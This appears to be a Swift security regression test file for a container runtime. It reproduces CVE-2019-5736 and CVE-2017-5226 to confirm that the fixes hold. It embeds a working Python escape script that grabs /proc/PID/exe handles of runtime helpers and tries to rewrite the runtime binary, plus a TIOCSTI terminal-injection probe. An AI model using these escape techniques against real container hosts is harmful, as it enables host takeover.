import Foundation
import OCI
import Runtime
import TestSupport
import Testing

/// The container escapes of issue 10, reproduced as an attacker inside a root container without
/// a user namespace (runc's default config) would run them. Each test fails on ffe6433.
///
/// CVE-2019-5736: the runtime's own helpers (`init`, the `exec` helper) run this binary inside
/// the container's PID namespace. A workload that holds an O_PATH fd of /proc/PID/exe of one
/// of them can later reopen it for writing and rewrite the runtime on the host. The attack runs
/// against a copy of the runtime binary, never the build's own.
@Suite(.enabled(if: Harness.isRoot && Harness.hasPythonRootfs, "needs root and the python rootfs"))
struct RuntimeEscapeTests {
    /// The attacker, PID 1 of the watched container. It writes `/tmp/evil` ("#!/proc/self/exe",
    /// CVE-2019-5736's original trick: a process of the container that runs the runtime's
    /// binary), says `ready`, then catches every new process of its PID namespace: SIGSTOP at
    /// once (a root container may signal the runtime's helpers: same uid), then tries to open
    /// /proc/PID/exe with O_PATH while it is stopped, letting it run about 5 us between tries
    /// (SIGCONT, SIGSTOP; the watcher and the watched process on different CPUs) so that no
    /// window of its life is missed. A handle on an executable that is not one of the
    /// container's own files is kept. When the test creates `done`, it reopens every kept
    /// handle through /proc/self/fd/N with O_WRONLY|O_APPEND and writes (retrying while a
    /// runtime process still runs the file: ETXTBSY), and reports all of it in result.json.
    /// It creates `caught` when it first keeps a handle.
    static let watcher = #"""
        import errno, json, os, signal, stat, time

        REPORT = "/mnt"
        HOST_MARKER = os.environ.get("HOST_MARKER")
        O_PATH = getattr(os, "O_PATH", 0o10000000)

        def ename(e):
            return errno.errorcode.get(e.errno, str(e.errno))

        def cmdline(pid):
            try:
                with open("/proc/%d/cmdline" % pid, "rb") as f:
                    return f.read().replace(b"\0", b" ").decode(errors="replace").strip()
            except OSError:
                return None

        def foreign(fd):
            """(not one of the container's own files, what /proc/self/fd/N names)"""
            try:
                link = os.readlink("/proc/self/fd/%d" % fd)
            except OSError as e:
                return True, "readlink: " + ename(e)
            st = os.fstat(fd)
            try:
                own = os.stat(link)
                if (own.st_dev, own.st_ino) == (st.st_dev, st.st_ino):
                    return False, link
            except OSError:
                pass
            return True, link

        held = []

        def state(pid):
            try:
                with open("/proc/%d/stat" % pid) as f:
                    return f.read().rsplit(")", 1)[1].split()[0]
            except (OSError, IndexError):
                return "X"

        def stop(pid):
            """SIGSTOP, then wait until it is stopped: False when it is gone."""
            os.kill(pid, signal.SIGSTOP)
            for _ in range(200000):
                s = state(pid)
                if s in ("T", "t"):
                    return True
                if s in ("Z", "X"):
                    return False
            return True

        def handle(pid):
            info = {"pid": pid, "cmdlines": [], "denied": 0, "caught": None, "end": None}
            def note(cl):
                if cl and cl not in info["cmdlines"]:
                    info["cmdlines"].append(cl)
            try:
                alive = stop(pid)
                if OTHER_CPUS:
                    try:
                        os.sched_setaffinity(pid, OTHER_CPUS)
                    except OSError:
                        pass
                for step in range(1000000):
                    note(cmdline(pid))
                    # A file only the host has, through the process's root: reached means host root.
                    if HOST_MARKER and os.path.exists("/proc/%d/root%s" % (pid, HOST_MARKER)):
                        info["hostRoot"] = True
                    try:
                        fd = os.open("/proc/%d/exe" % pid, O_PATH | os.O_CLOEXEC)
                    except PermissionError:
                        info["denied"] += 1
                    except (FileNotFoundError, ProcessLookupError):
                        info["end"] = "gone (state %s)" % state(pid)
                        return info
                    except OSError as e:
                        info["end"] = "open: " + ename(e)
                        return info
                    else:
                        is_foreign, link = foreign(fd)
                        if is_foreign:
                            held.append({"pid": pid, "cmdline": cmdline(pid), "link": link, "fd": fd})
                            open(REPORT + "/caught", "w").close()
                            info["caught"] = link
                            info["end"] = "caught"
                        else:
                            os.close(fd)
                            info["end"] = "own file " + link
                        return info
                    if not alive:
                        info["end"] = "gone (stop: state %s)" % state(pid)
                        return info
                    # Let it run for about 20 us, then stop it again: no window of its life is longer
                    # than one step unless it is inside one system call (execve(2) returns stopped).
                    os.kill(pid, signal.SIGCONT)
                    until = time.perf_counter_ns() + 20000
                    while time.perf_counter_ns() < until:
                        pass
                    alive = stop(pid)
                info["end"] = "step limit"
            except ProcessLookupError:
                info["end"] = "gone"
            finally:
                try:
                    os.kill(pid, signal.SIGCONT)
                except OSError:
                    pass
            return info

        # The watcher on one CPU, the watched process on the others (same uid: allowed): otherwise
        # SIGCONT wakes it on this CPU, it preempts the watcher and runs for a whole time slice.
        OTHER_CPUS = None
        cpus = os.sched_getaffinity(0)
        if len(cpus) >= 2:
            os.sched_setaffinity(0, {min(cpus)})
            OTHER_CPUS = cpus - {min(cpus)}

        with open("/tmp/evil", "w") as f:
            f.write("#!/proc/self/exe\n")
        os.chmod("/tmp/evil", 0o755)
        open(REPORT + "/ready", "w").close()

        seen = []
        next_pid = os.getpid() + 1
        while not os.path.exists(REPORT + "/done"):
            for pid in range(next_pid, next_pid + 8):
                try:
                    os.kill(pid, 0)
                except ProcessLookupError:
                    continue
                except PermissionError:
                    pass
                seen.append(handle(pid))
                next_pid = pid + 1
                break
            try:
                os.waitpid(-1, os.WNOHANG)
            except ChildProcessError:
                pass

        writes = []
        for h in held:
            r = {k: v for k, v in h.items() if k != "fd"}
            r["open"] = "ETXTBSY"
            for attempt in range(1500):
                try:
                    w = os.open("/proc/self/fd/%d" % h["fd"], os.O_WRONLY | os.O_APPEND)
                except OSError as e:
                    if e.errno == errno.ETXTBSY:
                        time.sleep(0.02)
                        continue
                    r["open"] = ename(e)
                    break
                r["open"] = "ok"
                try:
                    r["write"] = os.write(w, b"\n# written by a container through /proc/self/fd\n")
                except OSError as e:
                    r["write"] = ename(e)
                os.close(w)
                break
            writes.append(r)

        with open(REPORT + "/result.json.tmp", "w") as f:
            json.dump({"seen": seen, "held": writes}, f)
        os.rename(REPORT + "/result.json.tmp", REPORT + "/result.json")
        """#

    struct Report {
        var seen: [[String: Any]]
        var held: [[String: Any]]
        var binaryUnchanged: Bool

        /// Processes that ran the runtime's binary as a helper (its cmdline named the runtime)
        /// rather than as the container's own process (the `#!/proc/self/exe` trick).
        var helpers: [[String: Any]] {
            seen.filter { (($0["cmdlines"] as? [String]) ?? []).contains { $0.contains("safespace-runtime") } }
        }

        var summary: String {
            let h = seen.map {
                "pid \($0["pid"] ?? "?") \((($0["cmdlines"] as? [String]) ?? []).map { $0.prefix(60) }) denied \($0["denied"] ?? 0) end \($0["end"] ?? "?")"
            }
            let w = held.map {
                "pid \($0["pid"] ?? "?") [\($0["cmdline"] ?? "")] \($0["link"] ?? "?"): reopen O_WRONLY \($0["open"] ?? "?"), write \($0["write"] ?? "-")"
            }
            return
                "\(seen.count) processes seen, \(helpers.count) ran the runtime's binary: \(h); handles kept and write attempts: \(w); runtime binary unchanged: \(binaryUnchanged)"
        }
    }

    /// Runs the watcher in a container (runc's default config plus a rw bind of the report
    /// directory), using a copy of the runtime binary for every command, with `env` in the
    /// runtime's environment. With `sharedPidContainer`, a second container joins the watcher's
    /// PID namespace (create, start: its `init` is watched); then `execs` × `exec ID <workload>`
    /// (default /bin/true), with `evil` then `exec ID /tmp/evil` until the watcher holds a handle
    /// (at most 20 times) and `execs` more. Then `done`, and the report.
    func attack(
        env: [String] = [], sharedPidContainer: Bool, evil: Bool, execs: Int, ptrace: Bool = false,
        workload: [String] = ["/bin/true"]
    ) throws -> Report {
        let dir = try Harness.tempDir("escape")
        defer { Harness.cleanup(dir) }
        let binDir = dir + "/bin"
        let reportDir = dir + "/report"
        try FileManager.default.createDirectory(atPath: binDir, withIntermediateDirectories: true)
        try FileManager.default.createDirectory(atPath: reportDir, withIntermediateDirectories: true)
        let binary = binDir + "/safespace-runtime"
        // cp(1), not a write from this process: a write fd leaked into a concurrent spawn
        // would make exec'ing the copy fail with ETXTBSY.
        try #require(try Harness.run("/bin/cp", [Harness.runtimeBinary, binary]).status == 0)
        let original = try Data(contentsOf: URL(fileURLWithPath: binary))
        try Self.watcher.write(toFile: reportDir + "/watch.py", atomically: true, encoding: .utf8)

        let root = try Harness.tempDir("escroot")
        defer { Harness.cleanup(root) }
        func rt(_ args: [String]) throws -> Harness.Result {
            try Harness.spawn((env.isEmpty ? [] : ["/usr/bin/env"] + env) + [binary, "--root", root] + args)
        }
        let reportMount = Mount(destination: "/mnt", type: "bind", source: reportDir, options: ["rbind", "rw"])
        let bundle = try Harness.pythonBundle(["python3", "/mnt/watch.py"]) { spec in
            spec.mounts!.append(reportMount)
            spec.process!.env = (spec.process!.env ?? []) + ["HOST_MARKER=\(binary)"]
            if ptrace {
                // CAP_SYS_PTRACE in the host's user namespace opens /proc/PID/exe of any process
                // in the container's PID namespace, non-dumpable or not.
                for keyPath in [\Capabilities.bounding, \Capabilities.effective, \Capabilities.permitted] {
                    spec.process!.capabilities![keyPath: keyPath] =
                        (spec.process!.capabilities![keyPath: keyPath] ?? []) + ["CAP_SYS_PTRACE"]
                }
            }
        }
        defer { Harness.cleanup(bundle) }
        let id = Harness.uniqueID("esc")
        var ids = [id]
        defer { for i in ids.reversed() { _ = try? rt(["delete", "--force", i]) } }

        let created = try rt(["create", "--bundle", bundle, id])
        try #require(created.status == 0, "create: \(created.stderr)")
        try #require(try rt(["start", id]).status == 0)
        try #require(
            Harness.eventually { FileManager.default.fileExists(atPath: reportDir + "/ready") },
            "the watcher never got ready")

        if sharedPidContainer {
            let state = try rt(["state", id])
            let json = try #require(try JSONSerialization.jsonObject(with: Data(state.stdout.utf8)) as? [String: Any])
            let pid = try #require((json["pid"] as? NSNumber)?.int32Value)
            let other = Harness.uniqueID("escpid")
            ids.append(other)
            let otherBundle = try Harness.pythonBundle(workload) { spec in
                let namespaces = spec.linux?.namespaces?.map {
                    $0.type == "pid" ? Namespace(type: "pid", path: "/proc/\(pid)/ns/pid") : $0
                }
                spec.linux?.namespaces = namespaces
            }
            defer { Harness.cleanup(otherBundle) }
            let c = try rt(["create", "--bundle", otherBundle, other])
            try #require(c.status == 0, "create in the watcher's PID namespace: \(c.stderr)")
            try #require(try rt(["start", other]).status == 0)
        }
        for _ in 0..<execs {
            let r = try rt(["exec", id] + workload)
            #expect(r.status == 0, "exec \(workload): \(r.stderr)")
        }

        if evil {
            // Exits non-zero whatever happens (the runtime's binary gets "/tmp/evil" as argument).
            // The process of /tmp/evil lives only until the dynamic loader fails (the runtime's
            // libraries are not in the container's root): when this loaded host preempts the
            // watcher at the wrong moment it is missed, so again until it is caught (bounded).
            for attempt in 1...20 {
                let r = try rt(["exec", id, "/tmp/evil"])
                if FileManager.default.fileExists(atPath: reportDir + "/caught") {
                    print(
                        "escape test: exec /tmp/evil (attempt \(attempt)) exited \(r.status): \(r.stderr.prefix(200))")
                    break
                }
            }
            for _ in 0..<execs { _ = try rt(["exec", id, "/bin/true"]) }
        }
        // Every runtime command has returned: nothing runs the copy now, so a write can land.
        try Data().write(to: URL(fileURLWithPath: reportDir + "/done"))
        let resultPath = reportDir + "/result.json"
        try #require(
            Harness.eventually { FileManager.default.fileExists(atPath: resultPath) }, "the watcher wrote no result")
        let result = try #require(
            try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: resultPath))) as? [String: Any]
        )
        let after = try Data(contentsOf: URL(fileURLWithPath: binary))
        let report = Report(
            seen: result["seen"] as? [[String: Any]] ?? [], held: result["held"] as? [[String: Any]] ?? [],
            binaryUnchanged: after == original)
        print("escape test (\(env.isEmpty ? "default" : env.joined(separator: " "))): \(report.summary)")
        return report
    }

    @Test(
        "CVE-2019-5736: a root container holding /proc/PID/exe of the runtime's processes cannot write the runtime binary",
        arguments: [[], ["SAFESPACE_EXE_SEAL=memfd"]])
    func runtimeBinaryNotWritable(env: [String]) throws {
        let report = try attack(env: env, sharedPidContainer: false, evil: true, execs: 4)
        // The attack got as far as holding a handle on the runtime's executable (at least the
        // one of /tmp/evil's process, a process of the container running that binary).
        #expect(!report.held.isEmpty, "the watcher never held a handle: \(report.summary)")
        for h in report.held {
            #expect(!(h["write"] is Int), "a write through a kept handle landed: \(report.summary)")
        }
        #expect(report.binaryUnchanged, "the runtime binary was rewritten from inside the container: \(report.summary)")
    }

    @Test(
        "CVE-2019-5736 with CAP_SYS_PTRACE: every runtime process the container can see runs the sealed binary; its root is never the host's; no write reaches the host's file"
    )
    func ptraceCapableContainer() throws {
        // Non-dumpable does not hold against CAP_SYS_PTRACE: /proc/PID/exe and /proc/PID/root of
        // what the exec puts in the container's PID namespace open. The exe must be the sealed
        // binary, never the host's file (the runtime re-executes itself sealed before it forks),
        // and the root never the host's.
        let report = try attack(sharedPidContainer: false, evil: false, execs: 8, ptrace: true)
        // The exec'd processes were watched; none was ever ours with the host's root (the helper
        // joins the PID namespace after the mount namespace).
        #expect(report.seen.count >= 4, "too few exec'd processes watched: \(report.summary)")
        #expect(
            !report.seen.contains { $0["hostRoot"] as? Bool == true },
            "a process in the container's PID namespace had the host's root: \(report.summary)")
        #expect(
            report.held.contains { (($0["cmdline"] as? String) ?? "").contains("safespace-runtime") },
            "the watcher held no handle of a runtime helper: \(report.summary)")
        for h in report.held {
            #expect(!(h["write"] is Int), "a write through a kept handle landed: \(report.summary)")
        }
        #expect(report.binaryUnchanged, "the runtime binary was rewritten from inside the container: \(report.summary)")
    }

    @Test("the init and exec helpers are non-dumpable while the container sees them: /proc/PID/exe is refused")
    func helpersNotDumpable() throws {
        // The workload lasts 50 ms: a fast build's helper goes from re-exec through /bin/true's
        // exit before the watcher's next step, and is then not seen reaching its own file.
        let report = try attack(sharedPidContainer: true, evil: false, execs: 16, workload: ["/bin/sleep", "0.05"])
        // The init of the container that joined the watcher's PID namespace and 16 exec
        // helpers. Each helper is open to the container (without the fix) only from its drop to
        // the container's capabilities until its execve(2); the watcher steps it through that
        // window unless this loaded host preempts the watcher at the wrong moment (on ffe6433,
        // under the load of several builds, 2-8 of the 17 were caught per run). Not vacuous: at
        // least 3 were watched from their re-exec until they ran the workload.
        let watchedThrough = report.helpers.filter {
            (($0["cmdlines"] as? [String]) ?? []).contains("safespace-runtime init")
                && (($0["end"] as? String) ?? "").hasPrefix("own file")
        }
        #expect(watchedThrough.count >= 3, "too few helpers watched from re-exec to workload: \(report.summary)")
        for h in report.helpers {
            #expect(
                h["caught"] is NSNull || h["caught"] == nil, "a helper's /proc/PID/exe was opened: \(report.summary)")
        }
        #expect(report.held.isEmpty, "\(report.summary)")
        #expect(report.binaryUnchanged, "\(report.summary)")
    }

    // MARK: CVE-2017-5226

    /// Run inside the container with the caller's pty as stdio: what it can do to that terminal.
    static let ttyProbe = #"""
        import errno, fcntl, json, os, termios

        def ename(e):
            return errno.errorcode.get(e.errno, str(e.errno))

        r = {"isatty0": os.isatty(0)}
        try:
            os.close(os.open("/dev/tty", os.O_RDWR))
            r["devtty"] = "opened"
        except OSError as e:
            r["devtty"] = ename(e)
        with open("/proc/self/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        r["tty_nr"] = int(fields[4])
        r["own_session"] = os.getsid(0) == os.getpid()
        sti = set()
        for ch in b"INJECTED":
            try:
                fcntl.ioctl(0, termios.TIOCSTI, bytes([ch]))
                sti.add("ok")
            except OSError as e:
                sti.add(ename(e))
        r["tiocsti"] = sorted(sti)
        with open(os.environ["REPORT"], "w") as f:
            json.dump(r, f)
        """#

    /// A new pty pair in raw mode (no echo, no line discipline buffering): injected input is
    /// readable on the slave at once.
    static func openPty() throws -> (master: Int32, slave: Int32) {
        let master = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC)
        try #require(master >= 0, "open /dev/ptmx")
        // unlockpt(3) and TIOCGPTPEER (Linux 4.13): the slave without a path lookup.
        var unlock: Int32 = 0
        try #require(ioctl(master, 0x4004_5431 /* TIOCSPTLCK */, &unlock) == 0)
        let slave = ioctl(master, 0x5441 /* TIOCGPTPEER */, O_RDWR | O_NOCTTY | O_CLOEXEC)
        try #require(slave >= 0, "TIOCGPTPEER: \(String(cString: strerror(errno)))")
        var t = termios()
        tcgetattr(slave, &t)
        cfmakeraw(&t)
        tcsetattr(slave, TCSANOW, &t)
        return (master, slave)
    }

    /// What is waiting to be read on `fd` now (non-blocking).
    static func pending(_ fd: Int32) -> String {
        _ = fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK)
        var out: [UInt8] = []
        var buf = [UInt8](repeating: 0, count: 4096)
        while true {
            let n = read(fd, &buf, buf.count)
            if n <= 0 { break }
            out += buf[0..<n]
        }
        return String(decoding: out, as: UTF8.self)
    }

    @Test(
        "CVE-2017-5226: a container without process.terminal gets no controlling terminal from its caller (run and exec)",
        arguments: ["run", "exec"])
    func noControllingTerminal(command: String) throws {
        let reportDir = try Harness.tempDir("ttyreport")
        defer { Harness.cleanup(reportDir) }
        try Self.ttyProbe.write(toFile: reportDir + "/probe.py", atomically: true, encoding: .utf8)
        let reportMount = Mount(destination: "/mnt", type: "bind", source: reportDir, options: ["rbind", "rw"])
        let args = command == "run" ? ["python3", "/mnt/probe.py"] : ["sleep", "1000"]
        let bundle = try Harness.pythonBundle(args) { spec in
            spec.mounts!.append(reportMount)
            spec.process?.env?.append("REPORT=/mnt/result.json")
        }
        let c = try TestContainer("tty", bundle: bundle)
        defer { c.destroy() }
        let pty = try Self.openPty()
        defer {
            close(pty.master)
            close(pty.slave)
        }
        var commandArgs = [Harness.runtimeBinary, "--root", c.root]
        if command == "run" {
            commandArgs += ["run", "--bundle", bundle, c.id]
        } else {
            try #require(try c.create().status == 0)
            try #require(try c.start().status == 0)
            commandArgs += ["exec", c.id, "python3", "/mnt/probe.py"]
        }
        // The caller: a session of its own whose controlling terminal is the test's pty, as a
        // shell in a terminal would be (setsid(1) --ctty: TIOCSCTTY on its stdin).
        let r = try Harness.spawn(
            ["/usr/bin/setsid", "--ctty", "--wait"] + commandArgs,
            inherit: [(pty.slave, 0), (pty.slave, 1), (pty.slave, 2)])
        let output = Self.pending(pty.master)
        try #require(r.status == 0, "\(command) exited \(r.status): \(output)")
        let data = try Data(contentsOf: URL(fileURLWithPath: reportDir + "/result.json"))
        let result = try #require(try JSONSerialization.jsonObject(with: data) as? [String: Any])
        print("tty test (\(command)): \(result)")
        #expect(result["isatty0"] as? Bool == true, "stdio is not the caller's pty: \(result)")
        #expect(result["devtty"] as? String == "ENXIO", "/dev/tty: \(result)")
        #expect((result["tty_nr"] as? NSNumber)?.intValue == 0, "a controlling terminal: \(result)")
        #expect(result["own_session"] as? Bool == true, "not a session of its own: \(result)")
        #expect(result["tiocsti"] as? [String] == ["EPERM"], "TIOCSTI: \(result)")
        let injected = Self.pending(pty.slave)
        #expect(injected.isEmpty, "input pushed into the caller's terminal: \(injected.debugDescription)")
    }
}
